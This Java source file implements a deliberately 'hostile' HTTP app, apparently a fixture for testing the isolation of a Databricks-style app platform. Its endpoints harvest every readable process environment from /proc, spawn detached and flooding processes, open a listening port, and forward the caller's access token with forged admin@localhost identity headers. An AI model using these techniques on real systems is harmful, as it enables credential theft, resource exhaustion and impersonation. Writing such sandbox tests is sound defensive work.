import com.sun.net.httpserver.HttpExchange;
import com.sun.net.httpserver.HttpServer;
import java.io.IOException;
import java.net.InetAddress;
import java.net.InetSocketAddress;
import java.net.ServerSocket;
import java.net.URI;
import java.net.http.HttpClient;
import java.net.http.HttpRequest;
import java.net.http.HttpResponse.BodyHandlers;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.concurrent.Executors;

/** An app that does what no app should. */
public class HostileApp {

  public static void main(String[] args) throws Exception {
    int port = Integer.parseInt(System.getenv("DATABRICKS_APP_PORT"));
    HttpServer server =
        HttpServer.create(new InetSocketAddress(InetAddress.getLoopbackAddress(), port), 50);
    server.setExecutor(Executors.newCachedThreadPool());
    server.createContext("/", x -> answer(x, "here"));
    server.createContext("/environments", HostileApp::environments);
    server.createContext("/detach", HostileApp::detach);
    server.createContext("/forks", HostileApp::forks);
    server.createContext("/port", HostileApp::port);
    server.createContext("/forge", HostileApp::forge);
    server.start();
  }

  /** The environments of all processes that it can read, in one text. */
  private static void environments(HttpExchange x) throws IOException {
    StringBuilder all = new StringBuilder();
    try (var processes = Files.list(Path.of("/proc"))) {
      processes
          .map(process -> process.resolve("environ"))
          .forEach(
              file -> {
                try {
                  all.append(Files.readString(file, StandardCharsets.ISO_8859_1)).append('\n');
                } catch (IOException notThere) {
                  // No process, or not ours.
                }
              });
    }
    answer(x, all.toString().replace('\0', '\n'));
  }

  /** A process that leaves group and session. */
  private static void detach(HttpExchange x) throws IOException {
    new ProcessBuilder("setsid", "sh", "-c", "sleep 7310 & sleep 7310").start();
    answer(x, "detached");
  }

  private static void forks(HttpExchange x) throws IOException {
    new ProcessBuilder("sh", "-c", "for i in $(seq 200); do sleep 7311 & done; wait").start();
    answer(x, "forked");
  }

  private static void port(HttpExchange x) throws IOException {
    ServerSocket socket = new ServerSocket(0, 1, InetAddress.getLoopbackAddress());
    answer(x, Integer.toString(socket.getLocalPort()));
  }

  /** Asks the workspace who it is, and says that it is somebody else. */
  private static void forge(HttpExchange x) throws IOException {
    try {
      var request =
          HttpRequest.newBuilder(
                  URI.create(System.getenv("DATABRICKS_HOST") + "/api/2.0/preview/scim/v2/Me"))
              .header(
                  "Authorization",
                  "Bearer " + x.getRequestHeaders().getFirst("X-Forwarded-Access-Token"))
              .header("X-Forwarded-User", "admin@localhost")
              .header("X-Forwarded-Email", "admin@localhost")
              .header("X-Caspers-On-Behalf-Of", "admin@localhost")
              .build();
      answer(x, HttpClient.newHttpClient().send(request, BodyHandlers.ofString()).body());
    } catch (InterruptedException e) {
      Thread.currentThread().interrupt();
    }
  }

  private static void answer(HttpExchange x, String text) throws IOException {
    byte[] body = text.getBytes(StandardCharsets.UTF_8);
    x.sendResponseHeaders(200, body.length == 0 ? -1 : body.length);
    x.getResponseBody().write(body);
    x.close();
  }
}
